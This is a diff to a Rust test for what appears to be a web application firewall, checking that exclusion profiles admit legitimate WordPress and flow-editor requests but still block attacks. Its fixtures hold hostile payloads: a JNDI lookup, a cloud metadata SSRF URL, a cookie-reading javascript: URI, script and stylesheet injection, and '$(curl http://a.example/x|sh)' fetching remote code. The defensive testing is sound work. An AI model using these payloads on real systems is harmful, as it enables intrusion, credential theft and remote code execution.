@@ -1,5 +1,5 @@
-//! Profiles in the real program: each exclusion of them has a request of our own that it lets pass, which an
-//! attack of another class in the same field does not.
+//! Profiles in the real program: each exclusion of them has a request of our own that it lets pass, and
+//! attacks of another class and of another kind in the same field are stopped.
 
 use std::process::Command;
 
@@ -24,51 +24,56 @@ struct Sample {
     path: &'static str,
     place: In,
     honest: &'static str,
-    /// Of a class that is not excluded.
-    attack: &'static str,
+    /// Of another class, and of a kind of the same class that is not excluded.
+    attacks: [&'static str; 2],
 }
 
 /// With hosts of its own, so that links to others are stopped.
 const SITE: &str = "mode = \"semantic\"\nsemantic = { hosts = [\"own.example\"] }";
 const LOOKUP: &str = "${jndi:ldap://a.example/x}";
+/// A page with all that the block editor was recorded to save.
+const LANDING: &str = "<!-- wp:html --><script async=\"\" src=\"https://visits.example.net/tag.js\"></script>\
+    <script>window.layer = window.layer || []; function tag(){layer.push(arguments);} tag('js', new Date());\
+    </script><form action=\"https://list.example.net/join\" method=\"post\" onsubmit=\"return check(this)\">\
+    <input type=\"email\" name=\"EMAIL\"></form><!-- /wp:html -->";
+/// Markup of the same class, of a kind that was not recorded.
+const STYLE: &str = "\"><link rel=stylesheet href=http://a.example/a.css>";
 const SAMPLES: [Sample; 6] = [
     Sample {
         path: "/wp-json/wp/v2/posts/7",
         place: In::Json("{\"title\":\"Sale\",\"content\":VALUE}"),
-        honest: "<!-- wp:html --><script>document.querySelector('#menu').addEventListener('click', () => open('/sale'))\
-                 </script><!-- /wp:html -->",
-        attack: LOOKUP,
+        honest: LANDING,
+        attacks: [LOOKUP, STYLE],
     },
     Sample {
         path: "/index.php?rest_route=%2Fwp%2Fv2%2Fpages%2F3",
         place: In::Json("{\"content\":VALUE}"),
-        honest: "<form action=\"https://list.example.net/join\" onsubmit=\"return check(this)\"><input name=\"mail\"></form>\
-                 <script src=\"https://list.example.net/form.js\"></script>",
-        attack: LOOKUP,
+        honest: LANDING,
+        attacks: [LOOKUP, STYLE],
     },
     Sample {
         path: "/wp-comments-post.php",
         place: In::Form("url"),
         honest: "https://garden.example.net/~ann/",
-        attack: "http://169.254.169.254/latest/meta-data/",
+        attacks: ["http://169.254.169.254/latest/meta-data/", "https://own.example@a.example/"],
     },
     Sample {
         path: "/wp-admin/profile.php",
         place: In::Form("url"),
         honest: "https://garden.example.net/",
-        attack: "javascript:alert(document.cookie)",
+        attacks: ["javascript:alert(document.cookie)", "https://own.example@a.example/"],
     },
     Sample {
         path: "/flows",
         place: In::Json("{\"flows\":[{\"type\":\"exec\",\"command\":VALUE}]}"),
         honest: "cat /etc/hostname; uname -a | tr a-z A-Z",
-        attack: "<script>alert(1)</script>",
+        attacks: ["<script>alert(1)</script>", "$(curl http://a.example/x|sh)"],
     },
     Sample {
         path: "/flows",
         place: In::Json("{\"flows\":[{\"type\":\"http request\",\"url\":VALUE}]}"),
         honest: "http://127.0.0.1:9090/api/v1/query?query=up",
-        attack: LOOKUP,
+        attacks: [LOOKUP, "http://169.254.169.254/latest/meta-data/"],
     },
 ];
 
@@ -104,8 +109,8 @@ fn each_exclusion_lets_its_own_request_pass_and_no_more() {
     let folder = tempfile::tempdir().unwrap();
     let without = Managed::start(folder.path(), application.address(), SITE, "");
     for sample in &SAMPLES {
-        let Sample { path, place, honest, attack } = sample;
-        for value in [honest, attack] {
+        let Sample { path, place, honest, attacks: [other, same] } = sample;
+        for value in [honest, other, same] {
             assert_eq!(sample.ask(&without, "", value), 403, "{path} {place:?}: {value}");
         }
     }
@@ -115,9 +120,11 @@ fn each_exclusion_lets_its_own_request_pass_and_no_more() {
     let site = format!("{SITE}\nprofiles = {names:?}");
     let managed = Managed::start(folder.path(), application.address(), &site, "");
     for sample in &SAMPLES {
-        let Sample { path, place, honest, attack } = sample;
+        let Sample { path, place, honest, attacks } = sample;
         assert_eq!(sample.ask(&managed, "", honest), 200, "{path} {place:?}: {honest}");
-        assert_eq!(sample.ask(&managed, "", attack), 403, "{path} {place:?}: {attack}");
+        for attack in attacks {
+            assert_eq!(sample.ask(&managed, "", attack), 403, "{path} {place:?}: {attack}");
+        }
         // Nobody carries it to another application, or to a path that becomes another one.
         for root in ["/other.php", "/x/..", "/"] {
             assert_eq!(sample.ask(&managed, root, honest), 403, "{root}{path} {place:?}: {honest}");
